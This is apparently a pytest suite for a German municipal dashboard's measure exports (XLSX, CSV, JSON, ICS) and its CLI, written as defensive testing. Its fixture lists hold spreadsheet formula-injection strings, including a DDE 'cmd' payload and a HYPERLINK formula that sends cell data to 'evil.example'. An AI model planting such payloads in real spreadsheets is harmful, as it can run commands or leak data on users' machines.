import csv
import datetime as dt
import hashlib
import io
import json
import zipfile
from xml.etree import ElementTree as ET

import pandas as pd
import pytest
from icalendar import Calendar
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from python_calamine import CalamineWorkbook

from mayen_dash.cli import main
from mayen_dash.diff import normalize_title
from mayen_dash.exports import (
    DUE_LABEL,
    FORMATS,
    ICS_DOMAIN,
    ICS_PRODID,
    ICS_REFRESH,
    OVERDUE_LABEL,
    SCHEMA_VERSION,
    SOURCE_ROW_LABEL,
    UNITS_LABEL,
    display_frame,
    due_soon_frame,
    export_measures,
    findings_frame,
    frame_xlsx,
    measure_details,
    measure_uid,
    measure_uids,
    measures_ics,
    measures_xlsx,
    neutralize,
    overdue_frame,
)
from mayen_dash.loader import load_report
from mayen_dash.metrics import overdue_mask
from mayen_dash.normalize import split_units
from mayen_dash.readers.base import MAX_CELLS, MAX_ROWS
from mayen_dash.tables import cell_text
from mayen_dash.vocabulary import STATUS_CODES
from tests.builders import BUNDLED, FLAT_HEADER, csv_bytes

HOSTILE = ["=1+1", "+49 2651", "-Investitionen", "@SUM(A1)", "\tTab", '=HYPERLINK("http://x","klick")']


def test_display_frame_has_german_headers_and_labels():
    report = load_report(BUNDLED)
    frame = display_frame(report.measures, dt.date(2023, 1, 1))
    assert list(frame.columns)[:8] == FLAT_HEADER  # the flat layout the tests write, so the export reads back
    row = frame[frame["ID"] == "EG-B-41"].iloc[0]
    assert row["Status"] == "in Bearbeitung"
    assert row[UNITS_LABEL] == "Zentralbereich 1; Bereich 2.1; Kreisverwaltung Mayen-Koblenz"
    assert row[DUE_LABEL] == pd.Timestamp(2024, 12, 31)
    assert bool(row[OVERDUE_LABEL]) is False


def test_xlsx_export_round_trips_and_keeps_hostile_text_inert():
    rows = [["Maßnahme", "Status", "Anmerkungen", "Zieldatum"]] + [[text, "offen", text, "2023"] for text in HOSTILE]
    report = load_report(csv_bytes(rows, ";", "utf-8"), "liste.csv")
    data = measures_xlsx(report.measures, dt.date(2024, 1, 1))
    sheet = load_workbook(io.BytesIO(data)).active
    titles = [c.value for c in sheet["D"][1:]]
    assert titles == [t.strip() for t in HOSTILE]
    assert all(c.data_type == "s" for c in sheet["D"][1:])
    again = load_report(data, "export.xlsx")
    assert again.measures["title"].tolist() == report.measures["title"].tolist()
    assert again.measures["status"].tolist() == report.measures["status"].tolist()
    assert again.measures["due"].tolist() == report.measures["due"].tolist()


def test_overdue_and_due_soon_frames():
    report = load_report(BUNDLED)
    late = overdue_frame(report.measures, dt.date(2023, 1, 1))
    assert late["Tage überfällig"].is_monotonic_decreasing
    assert set(late["Maßnahme"]) >= {"Gewerbeanmeldung", "Versammlungsanzeigen"}
    soon = due_soon_frame(report.measures, dt.date(2022, 8, 31))
    assert soon["Maßnahme"].tolist()[:1] == ["Versammlungsanzeigen"]
    assert soon["Tage bis fällig"].tolist()[0] == 30


def test_measure_details():
    report = load_report(BUNDLED)
    frame = display_frame(report.measures, dt.date(2022, 8, 31))
    details = dict(measure_details(frame.iloc[0], dt.date(2022, 8, 31)))
    assert details["Status"] == "in Bearbeitung"
    assert details[DUE_LABEL] == "31.12.2023"
    assert details[OVERDUE_LABEL] == "nein"
    assert details["Anmerkungen"] == "–"


NO_DUE_ROWS = [FLAT_HEADER, ["", "Feld", "", "Ohne Angaben", "offen", "", "", ""]]
PLACEHOLDER_WORDS = ("None", "nan", "NaN", "NaT")


def test_a_measure_without_due_date_reads_dash_on_screen_and_never_none_in_a_download():
    measures = load_report(csv_bytes(NO_DUE_ROWS), "liste.csv").measures
    frame = display_frame(measures, dt.date(2022, 8, 31))
    # The grid shows the missing date by its placeholder "–" (ui.frames); the texts are empty, never "nan".
    assert pd.isna(frame.iloc[0][DUE_LABEL])
    assert not any(str(v) in PLACEHOLDER_WORDS for v in frame.iloc[0].drop(DUE_LABEL))
    details = dict(measure_details(frame.iloc[0], dt.date(2022, 8, 31)))
    assert details[DUE_LABEL] == "keine Fälligkeit"
    assert details["ID"] == details["Zieldatum"] == "–"
    text = export_measures(measures, "csv", dt.date(2022, 8, 31)).decode("utf-8-sig")
    assert text.splitlines()[1] == ";Feld;;Ohne Angaben;offen;;;;;;nein;2"
    with zipfile.ZipFile(io.BytesIO(export_measures(measures, "xlsx", dt.date(2022, 8, 31)))) as archive:
        sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "Ohne Angaben" in sheets
    assert not any(f">{word}<" in sheets for word in PLACEHOLDER_WORDS)


# --- export_measures: xlsx, csv, json, ics -------------------------------------------------------------


# Everything that a spreadsheet program could take for a formula, and text that XML cannot carry as it is.
INJECTIONS = [
    "=1+1",
    "+49 2651 88-0",
    "-x",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    '=HYPERLINK("http://evil.example/?q="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "_x000D_ steht so da",
    "Steuer\x01zeichen",
]
AS_OF = dt.date(2023, 1, 1)
STAMP = dt.datetime(2024, 1, 31, 9, 15, tzinfo=dt.UTC)


def measures_frame(rows: list[dict]) -> pd.DataFrame:
    """A measure table as the loader builds it, for texts the loader itself would never produce (tab, CR)."""
    defaults = {
        "id": "",
        "area": "Innovatives Wissen",
        "group": "",
        "title": "Maßnahme",
        "status": "offen",
        "status_raw": "offen",
        "responsible": "Zentralbereich 1",
        "units": ("Zentralbereich 1",),
        "target": "2023",
        "start": pd.Timestamp("2023-01-01"),
        "due": pd.Timestamp("2023-12-31"),
        "ongoing": False,
        "remarks": "",
        "sheet": "Maßnahmen",
        "row": 2,
    }
    frame = pd.DataFrame([{**defaults, **row} for row in rows])
    frame["status"] = pd.Categorical(frame["status"], categories=list(STATUS_CODES))
    frame["area"] = pd.Categorical(frame["area"])
    for column in ("start", "due"):
        frame[column] = frame[column].astype("datetime64[s]")
    return frame


def hostile_measures() -> pd.DataFrame:
    return measures_frame(
        [
            {"id": text, "title": text, "responsible": text, "units": (text,), "target": text, "remarks": text}
            for text in INJECTIONS
        ]
    )


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: German Excel reads the umlauts right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture(scope="module")
def bundled():
    return load_report(BUNDLED)


def test_xlsx_export_round_trips_every_field_of_the_bundled_report(bundled):
    data = export_measures(bundled.measures, "xlsx", AS_OF)
    again = load_report(data, "export.xlsx")
    before, after = bundled.measures, again.measures
    assert len(after) == len(before) == 101
    # Status is written as its label ("abgeschlossen" comes back as "erledigt"): the code survives, not the spelling.
    for column in ("id", "area", "group", "title", "status", "responsible", "target", "remarks"):
        assert after[column].astype(str).tolist() == before[column].astype(str).tolist(), column
    # The Organisation sheet carries the units, also those the source's own Organisation sheet defined.
    assert after["units"].tolist() == before["units"].tolist()
    assert after["due"].equals(before["due"])
    assert after["start"].equals(before["start"])
    assert again.warnings == []


def test_csv_export_is_for_german_excel_and_round_trips(bundled):
    data = export_measures(bundled.measures, "csv", AS_OF)
    assert data.startswith(b"\xef\xbb\xbfID;Handlungsfeld;Zielgruppe;Ma\xc3\x9fnahme;Status;")
    assert b"\r\n" in data
    rows = csv_rows(data)
    header, body = rows[0], rows[1:]
    assert len(body) == 101
    record = next(dict(zip(header, row, strict=True)) for row in body if row[0] == "EG-B-41")
    assert record["Status"] == "in Bearbeitung"
    assert record[DUE_LABEL] == "31.12.2024"
    assert record[OVERDUE_LABEL] == "nein"
    again = load_report(data, "export.csv").measures
    before = bundled.measures
    for column in ("id", "area", "group", "title", "status", "responsible", "target", "remarks"):
        assert again[column].astype(str).tolist() == before[column].astype(str).tolist(), column
    assert again["due"].equals(before["due"])
    # Without a second sheet the units come from the Verantwortlichkeit text by the loader's default rules.
    assert again["units"].tolist() == [split_units(r) for r in before["responsible"]]


def test_csv_units_round_trip_when_the_source_has_no_organisation_sheet():
    rows = [["Maßnahme", "Status", "Verantwortlichkeit"], ["A", "offen", "ZB 1/Bereich 2.1"], ["B", "erledigt", ""]]
    report = load_report(csv_bytes(rows, ";", "utf-8"), "liste.csv")
    again = load_report(export_measures(report.measures, "csv"), "export.csv")
    assert again.measures["units"].tolist() == report.measures["units"].tolist()
    assert again.measures["units"].tolist()[0] == ("Zentralbereich 1", "Bereich 2.1")


def test_xlsx_keeps_hostile_text_inert_and_exact():
    measures = hostile_measures()
    data = export_measures(measures, "xlsx", AS_OF)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(data))["Maßnahmen"]
    header = [c.value for c in sheet[1]]
    for label in ("ID", "Maßnahme", "Verantwortlichkeit", "Zieldatum", "Anmerkungen", UNITS_LABEL):
        cells = [row[header.index(label)] for row in sheet.iter_rows(min_row=2)]
        assert len(cells) == len(INJECTIONS)
        assert all(cell.data_type == "s" for cell in cells), label
    # The exact text, leading tab and carriage return included, as Excel (and calamine) decode the file.
    values = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Maßnahmen").to_python()
    column = values[0].index("Maßnahme")
    assert [row[column] for row in values[1:]] == INJECTIONS


def test_legacy_measures_xlsx_is_the_same_safe_writer():
    data = measures_xlsx(hostile_measures(), AS_OF)
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(c.data_type == "s" for c in sheet["D"][1:])


MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def worksheet_roots(data: bytes) -> dict[str, ET.Element]:
    """The parsed XML of each worksheet in the zip, by member name."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: ET.fromstring(archive.read(n)) for n in archive.namelist() if n.startswith("xl/worksheets/")}


def test_xlsx_sheet_xml_has_no_formula_and_every_text_is_an_inline_string():
    texts = [*INJECTIONS, "=", "#N/A", "#DIV/0!", "TRUE", " Leerzeichen am Rand ", "a & b <c>"]
    measures = measures_frame([{"id": t, "title": t, "responsible": t, "target": t, "remarks": t} for t in texts])
    data = export_measures(measures, "xlsx", AS_OF)
    roots = worksheet_roots(data)
    assert len(roots) == 2
    for name, root in roots.items():
        assert next(root.iter(f"{MAIN_NS}f"), None) is None, name
        for cell in root.iter(f"{MAIN_NS}c"):
            assert cell.get("r"), name  # every cell with its reference: the loader's fast size check
            if cell.find(f"{MAIN_NS}is") is not None:
                assert cell.get("t") == "inlineStr", (name, cell.get("r"))
            else:
                assert cell.get("t") is None, (name, cell.get("r"))  # a number, a date or an empty styled cell
    sheet = load_workbook(io.BytesIO(data))["Maßnahmen"]
    header = [c.value for c in sheet[1]]
    for label in ("ID", "Maßnahme", "Verantwortlichkeit", "Zieldatum", "Anmerkungen"):
        cells = [row[header.index(label)] for row in sheet.iter_rows(min_row=2)]
        assert all(cell.data_type == "s" for cell in cells), label
    values = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Maßnahmen").to_python()
    column = values[0].index("Anmerkungen")
    assert [row[column] for row in values[1:]] == texts
    again = load_report(data, "export.xlsx").measures
    assert again["remarks"].tolist() == [cell_text(t) for t in texts]


def test_xlsx_layout_bold_frozen_header_filter_widths_wrap_and_dates(bundled):
    measures = bundled.measures
    data = export_measures(measures, "xlsx", AS_OF)
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Maßnahmen", "Organisation"]
    sheet = workbook["Maßnahmen"]
    header = [c.value for c in sheet[1]]
    assert header == list(display_frame(measures, AS_OF).columns)
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == sheet.dimensions == "A1:L102"
    columns = {
        label: [row[n] for row in sheet.iter_rows(min_row=2, max_col=len(header))] for n, label in enumerate(header)
    }
    widths = {label: sheet.column_dimensions[get_column_letter(n)].width for n, label in enumerate(header, start=1)}
    wide = {"Maßnahme", "Anmerkungen"}
    assert {label for label, width in widths.items() if width == 50} == wide
    assert {width for label, width in widths.items() if label not in wide} == {20}
    for label, cells in columns.items():
        wrapped = {(c.alignment.wrap_text, c.alignment.vertical) for c in cells}
        assert wrapped == ({(True, "top")} if label in wide else {(None, None)}), label
        assert not any(c.font.b for c in cells), label
    due = columns[DUE_LABEL]
    assert {c.number_format for c in due} == {"DD.MM.YYYY"}
    dated = [c for c in due if c.value is not None]
    assert len(dated) == int(measures["due"].notna().sum()) == 28
    assert all(c.is_date for c in dated)
    assert [c.value for c in dated] == [t.to_pydatetime() for t in measures["due"].dropna()]
    assert {c.value for c in columns[OVERDUE_LABEL]} == {"ja", "nein"}
    assert [c.value for c in columns[SOURCE_ROW_LABEL]] == measures["row"].tolist()
    organisation = workbook["Organisation"]
    assert organisation.freeze_panes == "A2"
    assert organisation.auto_filter.ref == organisation.dimensions
    assert [c.value for c in organisation[1]] == ["Verantwortlichkeit", "Organisationseinheiten"]
    assert {organisation.column_dimensions[letter].width for letter in "AB"} == {50}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        book = archive.read("xl/workbook.xml").decode()
    assert "'Maßnahmen'!$A$1:$L$102</definedName>" in book  # Excel's own record of the filter range


def test_frame_xlsx_writes_numbers_truth_values_dates_and_gaps():
    frame = pd.DataFrame(
        {
            "Art": ["Neu", "=A1", None],
            "Maßnahme": ["x", "", "y"],
            "Tage": [3, 4, 5],
            "Anteil": [0.5, float("nan"), float("inf")],
            "Fällig": [pd.Timestamp(2024, 1, 31), pd.NaT, pd.Timestamp(2025, 2, 1)],
            "Offen": [True, False, True],
        }
    )
    data = frame_xlsx(frame, "Stand d'Avril & Co", wide=("Maßnahme",), dates=("Fällig",))
    sheet = load_workbook(io.BytesIO(data))["Stand d'Avril & Co"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["Neu", "x", 3, 0.5, dt.datetime(2024, 1, 31), "ja"],
        ["=A1", None, 4, None, None, "nein"],
        [None, "y", 5, None, dt.datetime(2025, 2, 1), "ja"],
    ]
    assert sheet["A3"].data_type == "s"
    assert sheet["B3"].alignment.wrap_text  # an empty cell of a wide column keeps its format
    assert sheet["E3"].number_format == "DD.MM.YYYY"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "'Stand d''Avril &amp; Co'!$A$1:$F$4" in archive.read("xl/workbook.xml").decode()


def test_frame_xlsx_refuses_what_excel_refuses():
    frame = pd.DataFrame({"Maßnahme": ["x"]})
    for name in ("", "x" * 32, "a/b", "[1]", "'Zitat'"):
        with pytest.raises(ValueError, match="sheet name"):
            frame_xlsx(frame, name)
    with pytest.raises(ValueError, match="used twice"):
        frame_xlsx(frame, "Daten", extra={"DATEN": frame})
    for value in (("a", "b"), ["a", "b"]):
        with pytest.raises(TypeError, match="cannot write"):
            frame_xlsx(pd.DataFrame({"Einheiten": [value]}), "Daten")


def test_xlsx_is_the_same_bytes_for_the_same_table_and_cuts_texts_at_excels_limit():
    frame = pd.DataFrame({"Anmerkungen": ["a" * 40_000, "kurz"]})
    data = frame_xlsx(frame, "Daten")
    assert data == frame_xlsx(frame, "Daten")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "a" * 32_767
    assert sheet["A3"].value == "kurz"


def test_csv_neutralizes_formula_triggers_and_keeps_the_text_whole():
    measures = hostile_measures()
    rows = csv_rows(export_measures(measures, "csv", AS_OF))
    header, body = rows[0], rows[1:]
    assert len(body) == len(INJECTIONS)
    for label in ("ID", "Maßnahme", "Verantwortlichkeit", "Zieldatum", "Anmerkungen", UNITS_LABEL):
        cells = [row[header.index(label)] for row in body]
        for text, cell in zip(INJECTIONS, cells, strict=True):
            if text.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell == "'" + text, (label, cell)
            else:
                assert cell == text
    # The loader does not strip the apostrophe: it reads what Excel shows. After it the text is whole
    # (up to the whitespace clean-up the loader applies to every cell).
    again = load_report(export_measures(measures, "csv"), "export.csv").measures
    assert again["title"].tolist() == [cell_text(neutralize(t)) for t in INJECTIONS]
    assert again["title"].tolist()[:4] == ["'=1+1", "'+49 2651 88-0", "'-x", "'@SUM(A1)"]
    assert again["title"].tolist()[6] == "'" + INJECTIONS[6]


def test_neutralize():
    assert neutralize("=1+1") == "'=1+1"
    assert neutralize("\rx") == "'\rx"
    assert neutralize("Gewerbe-Anmeldung") == "Gewerbe-Anmeldung"
    assert neutralize("") == ""


def test_json_export_shape(bundled):
    document = json.loads(export_measures(bundled.measures, "json", AS_OF, report=bundled, exported_at=STAMP))
    assert set(document) == {"schema_version", "title", "report_date", "exported_at", "as_of", "count", "measures"}
    assert document["schema_version"] == SCHEMA_VERSION
    assert document["as_of"] == AS_OF.isoformat()
    assert document["title"] == "Digitalisierungsstrategie der Stadt Mayen"
    assert document["report_date"] == "2022-08-31"
    assert document["exported_at"] == "2024-01-31T09:15:00+00:00"
    assert document["count"] == len(document["measures"]) == 101
    keys = [
        "id",
        "area",
        "group",
        "title",
        "status",
        "status_label",
        "status_raw",
        "responsible",
        "units",
        "target",
        "start",
        "due",
        "ongoing",
        "remarks",
        "overdue",
    ]
    assert all(list(m) == keys for m in document["measures"])
    assert sum(m["overdue"] for m in document["measures"]) == int(overdue_mask(bundled.measures, AS_OF).sum()) > 0
    measure = next(m for m in document["measures"] if m["id"] == "EG-B-41")
    assert measure["status"] == "in_bearbeitung"
    assert measure["status_label"] == "in Bearbeitung"
    assert measure["units"] == ["Zentralbereich 1", "Bereich 2.1", "Kreisverwaltung Mayen-Koblenz"]
    assert measure["target"] == "2022/2024"
    assert (measure["start"], measure["due"]) == ("2022-01-01", "2024-12-31")
    ongoing = next(m for m in document["measures"] if m["id"] == "EG-B-02")
    assert (ongoing["due"], ongoing["start"]) == (None, None)
    assert all(isinstance(m["ongoing"], bool) for m in document["measures"])


def test_json_without_report_and_with_hostile_text():
    document = json.loads(export_measures(hostile_measures(), "json"))
    assert document["title"] == ""
    assert document["report_date"] is None
    assert [m["title"] for m in document["measures"]] == INJECTIONS
    dt.datetime.fromisoformat(document["exported_at"])


def events(data: bytes) -> list:
    calendar = Calendar.from_ical(data)
    assert str(calendar["PRODID"]) == ICS_PRODID
    assert str(calendar["VERSION"]) == "2.0"
    return calendar.walk("VEVENT")


def test_ics_has_one_all_day_event_per_measure_with_a_due_date(bundled):
    measures = bundled.measures
    found = events(export_measures(measures, "ics", AS_OF, report=bundled, exported_at=STAMP))
    assert len(found) == int(measures["due"].notna().sum()) == 28
    for event in found:
        start = event.decoded("DTSTART")
        assert type(start) is dt.date  # all-day, not a datetime
        assert event["DTSTART"].params["VALUE"] == "DATE"
        assert event.decoded("DTEND") == start + dt.timedelta(days=1)
        assert event.decoded("DTSTAMP") == STAMP
        assert str(event["UID"]).endswith("@" + ICS_DOMAIN)
    by_uid = {str(e["UID"]): e for e in found}
    assert len(by_uid) == len(found)
    event = by_uid[f"massnahme-eg-u-02@{ICS_DOMAIN}"]
    assert str(event["SUMMARY"]) == "Gewerbeanmeldung (in Bearbeitung)"
    assert event.decoded("DTSTART") == dt.date(2022, 10, 31)
    description = str(event["DESCRIPTION"])
    assert "Verantwortlichkeit: Zentralbereich 1/Bereich 2.1" in description
    assert "Zieldatum: 10/2022" in description
    assert "Anmerkungen: Implementierung Fachverfahren inkl. E-Akte" in description


def test_ics_uids_are_stable_across_exports_and_unique():
    measures = measures_frame(
        [
            {"id": "EG-B-01", "title": "Eins"},
            {"id": "", "title": "Gewerbe-Anmeldung", "responsible": "Zentralbereich 1"},
            {"id": "", "title": "Gewerbe-Anmeldung", "responsible": "Bereich 2.1"},
            {"id": "WT-01", "title": "Doppelt"},
            {"id": "wt-01 ", "title": "Doppelt, zweite Zeile"},
            {"id": "", "title": "Ohne Datum", "due": pd.NaT, "start": pd.NaT, "target": "laufend"},
        ]
    )
    first = events(export_measures(measures, "ics", exported_at=STAMP))
    second = events(export_measures(measures, "ics", exported_at=STAMP + dt.timedelta(days=30)))
    uids = [str(e["UID"]) for e in first]
    assert uids == [str(e["UID"]) for e in second]
    assert len(set(uids)) == len(uids) == 5
    assert uids[0] == f"massnahme-eg-b-01@{ICS_DOMAIN}"
    assert uids[3:] == [f"massnahme-wt-01@{ICS_DOMAIN}", f"massnahme-wt-01-2@{ICS_DOMAIN}"]
    # Without an ID: a hash of the normalised title and Verantwortlichkeit, so spelling noise does not matter.
    digest = hashlib.sha256(f"{normalize_title('Gewerbe-Anmeldung')}\nzentralbereich 1".encode()).hexdigest()
    assert uids[1] == f"titel-{digest[:24]}@{ICS_DOMAIN}"
    assert measure_uid("", "gewerbe  anmeldung", "Zentralbereich  1") == uids[1]
    assert measure_uids(measures)[:5] == uids


def test_ics_keeps_hostile_text_as_text():
    found = events(export_measures(hostile_measures(), "ics", exported_at=STAMP))
    assert len(found) == len(INJECTIONS)
    summaries = [str(e["SUMMARY"]) for e in found]
    assert summaries[0] == "=1+1 (offen)"
    assert summaries[5].strip() == "CR (offen)"  # a carriage return becomes a line break; other controls go
    assert all("\r" not in s for s in summaries)
    assert summaries[9] == "Steuerzeichen (offen)"


def test_export_keeps_every_measure_and_rejects_unknown_formats(bundled):
    for fmt in FORMATS:
        assert export_measures(bundled.measures.head(0), fmt, AS_OF, report=bundled)
    with pytest.raises(ValueError, match="unknown export format"):
        export_measures(bundled.measures, "pdf")


# --- python -m mayen_dash export ----------------------------------------------------------------------


def run(capsys, *args):
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_cli_export_csv_with_department_and_statuses(capsys, tmp_path):
    target = tmp_path / "fachbereich.csv"
    code, out, _ = run(
        capsys, "export", BUNDLED, "--format", "csv", "-o", target, "--department", "fachbereich 1",
        "--status", "In Bearbeitung", "--status", "offen",
    )  # fmt: skip
    assert code == 0
    rows = csv_rows(target.read_bytes())
    assert len(rows) - 1 == 4 + 3
    assert {r[rows[0].index("Status")] for r in rows[1:]} == {"in Bearbeitung", "offen"}
    assert all("Fachbereich 1" in r[rows[0].index(UNITS_LABEL)].split("; ") for r in rows[1:])
    assert "7 Maßnahmen" in out
    assert "Organisationseinheit: Fachbereich 1 · Status: in Bearbeitung, offen" in out


def test_cli_export_formats_by_suffix_and_to_stdout(capsys, tmp_path):
    code, _, _ = run(capsys, "export", BUNDLED, "-o", tmp_path / "alle.xlsx")
    assert code == 0
    assert len(load_report(tmp_path / "alle.xlsx").measures) == 101
    code, out, err = run(capsys, "export", BUNDLED, "--format", "json", "-o", "-", "--status", "erledigt")
    assert code == 0
    document = json.loads(out)
    assert document["count"] == 56
    assert {m["status"] for m in document["measures"]} == {"erledigt"}
    assert "56 Maßnahmen" in err
    code, out, _ = run(capsys, "export", BUNDLED, "-o", tmp_path / "termine.ics", "--as-of", "2023-01-01")
    assert code == 0
    assert len(events((tmp_path / "termine.ics").read_bytes())) == 28
    assert "28 davon mit Zieldatum" in out


def test_cli_export_errors(capsys, tmp_path, write):
    code, _, err = run(capsys, "export", BUNDLED, "-o", tmp_path / "x.txt")
    assert code == 2
    assert "--format" in err
    with pytest.raises(SystemExit) as caught:
        main(["export", str(BUNDLED), "-o", str(tmp_path / "x.csv"), "--status", "fertigish"])
    assert caught.value.code == 2
    assert "kein Status" in capsys.readouterr().err
    with pytest.raises(SystemExit) as caught:
        main(["export", str(BUNDLED), "-o", str(tmp_path / "x.csv"), "--format", "pdf"])
    assert caught.value.code == 2
    code, _, err = run(capsys, "export", tmp_path / "fehlt.xlsx", "-o", tmp_path / "x.csv")
    assert code == 2
    assert "gibt es nicht" in err
    code, _, err = run(capsys, "export", write("leer.csv", b""), "-o", tmp_path / "x.csv")
    assert code == 1
    assert err.startswith("Abgelehnt: Die Datei ist leer.")
    code, _, err = run(capsys, "export", BUNDLED, "-o", tmp_path / "kein" / "ordner.csv")
    assert code == 2
    assert "den Ordner gibt es nicht" in err


def test_cli_export_unknown_department_hints_like_summary(capsys, tmp_path):
    code, _, err = run(capsys, "export", BUNDLED, "-o", tmp_path / "x.json", "--department", "Nirgendwo")
    assert code == 0
    assert "kommt in der Datei nicht vor" in err
    assert json.loads((tmp_path / "x.json").read_bytes())["count"] == 0


def test_ics_as_a_subscription_names_the_unit_and_asks_to_be_refreshed(bundled):
    calendar = Calendar.from_ical(export_measures(bundled.measures, "ics", report=bundled, exported_at=STAMP))
    assert "REFRESH-INTERVAL" not in calendar
    subscribed = Calendar.from_ical(
        measures_ics(bundled.measures, report=bundled, exported_at=STAMP, subscription="Bereich 2.1")
    )
    assert (
        str(subscribed["X-WR-CALNAME"])
        == "Digitalisierungsstrategie der Stadt Mayen: Zieldaten der Maßnahmen – Bereich 2.1"
    )
    assert subscribed.decoded("REFRESH-INTERVAL") == ICS_REFRESH
    assert str(subscribed["X-PUBLISHED-TTL"]) == "PT6H"
    assert [str(e["UID"]) for e in subscribed.walk("VEVENT")] == [str(e["UID"]) for e in calendar.walk("VEVENT")]


def test_findings_frame_names_the_code_for_programs_and_leaves_it_out_on_screen():
    findings = load_report(csv_bytes([["Maßnahme", "Status"], ["A", "vielleicht"]]), "liste.csv").findings
    frame = findings_frame(findings)
    assert frame.columns.tolist() == ["Code", "Blatt", "Zeile", "Spalte", "Hinweis"]
    assert frame.iloc[0][["Code", "Blatt", "Zeile", "Spalte"]].tolist() == ["unknown_status", "liste.csv", 2, "Status"]
    assert findings_frame(findings, code=False).columns.tolist() == ["Blatt", "Zeile", "Spalte", "Hinweis"]


def test_an_export_of_as_many_measures_as_a_sheet_may_hold_loads_again(bundled):
    """The cell limit admits the dashboard's own Excel export at the row limit (it once refused 100,000 measures)."""
    data = export_measures(bundled.measures, "xlsx", AS_OF, report=bundled)
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    measures = workbook.get_sheet_by_name("Maßnahmen")
    others = sum(
        len(rows) * max((len(r) for r in rows), default=0)
        for name in workbook.sheet_names
        if name != "Maßnahmen"
        for rows in [workbook.get_sheet_by_name(name).to_python()]
    )
    assert measures.width * (MAX_ROWS + 1) + others <= MAX_CELLS
